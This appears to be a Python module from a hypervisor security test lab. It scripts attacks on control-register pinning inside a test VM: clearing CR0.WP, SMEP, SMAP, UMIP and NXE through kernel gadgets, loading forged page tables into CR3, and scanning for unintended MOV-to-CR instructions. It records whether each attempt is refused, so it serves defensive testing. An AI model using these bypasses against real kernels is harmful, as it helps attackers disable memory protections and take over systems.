"""Pinned bits of CR0, CR4 and EFER, and CR3: through instructions hidden in the constants of kernel text."""

from __future__ import annotations

import struct

from vtlab.client.driver import Driver
from vtlab.client.machine import Machine
from vtlab.client.symbols import Symbols
from vtlab.x86.registers import Cr0, Cr4, Efer, Msr
from vtlab_attacks.evidence import Attack, Attempts, Evidence, Run, observe
from vtlab_attacks.state import ENTRY_ADDRESS, NX, PRESENT, register

SMEP_BYPASS = "Rosenberg 2011, SMEP and how to beat it; Konovalov 2017, native_write_cr4 by CVE-2017-7308"
HEKI = "Heki v3, CR pinning (Salaün 2024)"


def clear_bit(cr: str, bit: Cr0 | Cr4) -> Run:
    """Clears one bit by a MOV to CR in a kernel constant."""

    def run(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
        def steps(attempts: Attempts) -> None:
            attempts.step(driver.call, symbols[f"gadget_mov_{cr}"], register(machine, cr) & ~bit)

        what = f"{cr.upper()}.{bit.name}"
        return observe(what, lambda: int(bool(register(machine, cr) & bit)), steps, symbols, lambda _, after: not after)

    return run


def lmsw(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """LMSW cannot clear PE or WP; it can set EM."""

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols["gadget_lmsw"], register(machine, "cr0") & 0xF | Cr0.EM)

    return observe(
        "CR0.EM", lambda: int(bool(register(machine, "cr0") & Cr0.EM)), steps, symbols, lambda _, after: bool(after)
    )


def forge_tables(machine: Machine, driver: Driver, symbols: Symbols, drop: int) -> int:
    """Copies the kernel's page tables to the mailbox, without the bits of `drop`; GPA of the copy's root."""
    original = symbols.sections[".page_tables"]
    size, forged = original.size, symbols.physical("driver_mailbox")
    driver.copy(symbols["driver_mailbox"], original.address, size)
    entries = list(struct.unpack(f"<{size // 8}Q", machine.read_memory(forged, size)))
    for index, entry in enumerate(entries):
        if not entry & PRESENT:
            continue
        target = entry & ENTRY_ADDRESS
        if original.physical <= target < original.physical + size:
            target += forged - original.physical
        entries[index] = (entry & ~ENTRY_ADDRESS | target) & ~drop
    machine.write_memory(forged, struct.pack(f"<{size // 8}Q", *entries))
    return forged + symbols.physical("kernel_pml4") - original.physical


def clear_nxe(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """With NXE clear, NX is a reserved bit, so the attacker first needs page tables without it."""
    root = forge_tables(machine, driver, symbols, drop=NX)

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols["gadget_mov_cr3"], root)
        attempts.step(driver.call, symbols["wrmsr"], Msr.EFER, register(machine, "efer") & ~Efer.NXE)

    return observe(
        "EFER.NXE", lambda: int(bool(register(machine, "efer") & Efer.NXE)), steps, symbols, lambda _, after: not after
    )


def load_forged_root(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    root = forge_tables(machine, driver, symbols, drop=0)

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols["gadget_mov_cr3"], root)

    return observe(
        "CR3", lambda: register(machine, "cr3"), steps, symbols, lambda _, after: after & ENTRY_ADDRESS == root, hex
    )


def call_removed_writer(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """The kernel's own CR4 writer, which VTL1 took away at the end of boot."""

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols["write_cr4"], register(machine, "cr4") & ~Cr4.SMEP)

    return observe(
        "CR4.SMEP", lambda: int(bool(register(machine, "cr4") & Cr4.SMEP)), steps, symbols, lambda _, after: not after
    )


def debugger_cr4(machine: Machine, _driver: Driver, symbols: Symbols) -> Evidence:
    """Not the guest but a client of the VMM, which is judged like the guest."""

    def steps(attempts: Attempts) -> None:
        attempts.step(machine.set_registers, {"cr4": register(machine, "cr4") & ~Cr4.SMEP})

    return observe(
        "CR4.SMEP", lambda: int(bool(register(machine, "cr4") & Cr4.SMEP)), steps, symbols, lambda _, after: not after
    )


PINNED = {0: int(Cr0.WP), 4: int(Cr4.SMEP | Cr4.SMAP | Cr4.UMIP)}
# Source registers of MOV to CR that the driver's call fills: RAX RCX RDX, RSI RDI.
FILLED = {0, 1, 2, 6, 7}


def executable_writers(machine: Machine, symbols: Symbols) -> list[tuple[int, int]]:
    """(address, CR number) of each 0F 22 that stands, at any offset, in memory that VTL0 maps executable."""
    found = []
    for address in symbols.find_code(b"\x0f\x22"):
        section = next(s for s in symbols.sections.values() if s.address <= address < s.address + s.size)
        modrm = section.data[address - section.address + 2]
        number, source = modrm >> 3 & 7, modrm & 7
        walk = machine.translate(address)
        if number in (0, 3, 4) and source in FILLED and walk.present and walk.executable:
            found.append((address, number))
    return found


def scan(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Every such place is tried; one that nobody refused is enough."""
    root = forge_tables(machine, driver, symbols, drop=0)
    writers = executable_writers(machine, symbols)

    def state() -> tuple[int, int, int]:
        registers = machine.registers().registers
        return registers.cr0 & PINNED[0], registers.cr4 & PINNED[4], registers.cr3

    def steps(attempts: Attempts) -> None:
        for address, number in writers:
            value = root if number == 3 else register(machine, f"cr{number}") & ~PINNED[number]
            if attempts.step(driver.call, address, *[value] * 6):
                attempts.denials.clear()
                return
        # Said once for all: each of them was refused.
        first = attempts.denials[0] if attempts.denials else ""
        attempts.denials = [f"all {len(writers)} found: {first}"] if writers else []

    return observe(
        "CR0.WP, CR4.SMEP/SMAP/UMIP, CR3",
        state,
        steps,
        symbols,
        show=lambda bits: f"{int(bool(bits[0]))}, {bits[1].bit_count()}/3, {bits[2]:#x}",
    )


ATTACKS = [
    Attack("cr0-wp", "Clears CR0.WP, so that the kernel writes its read-only pages", HEKI, clear_bit("cr0", Cr0.WP)),
    Attack("cr4-smep", "Clears CR4.SMEP", SMEP_BYPASS, clear_bit("cr4", Cr4.SMEP)),
    Attack("cr4-smap", "Clears CR4.SMAP", SMEP_BYPASS, clear_bit("cr4", Cr4.SMAP)),
    Attack("cr4-umip", "Clears CR4.UMIP, so that CPL3 reads descriptor tables", HEKI, clear_bit("cr4", Cr4.UMIP)),
    Attack("cr0-lmsw", "Sets CR0.EM by LMSW, the other way to write CR0", "Intel SDM volume 2, LMSW", lmsw),
    Attack("efer-nxe", "Clears EFER.NXE, from page tables without NX", "LVBS LOCK_REGS (EFER)", clear_nxe),
    Attack(
        "cr3-forged",
        "Loads CR3 with a copy of the page tables",
        "Heki v3 thread (Christopherson 2024): page tables writable only from VTL1",
        load_forged_root,
    ),
    Attack(
        "cr-writer-removed",
        "Calls the kernel's own function that writes CR4",
        "Heki v3 thread (Christopherson 2024): 'completely remove its access to code that changes CR0/CR4'",
        call_removed_writer,
    ),
    Attack(
        "cr-gadget-scan",
        "Looks for 0F 22 at every byte offset of executable memory and tries each",
        "Shacham 2007, unintended instructions",
        scan,
    ),
    Attack(
        "debugger-cr4",
        "Clears CR4.SMEP from outside, as the VMM's client",
        "Heki thread (Christopherson 2023): should userspace be able to overwrite pinned registers",
        debugger_cr4,
    ),
]
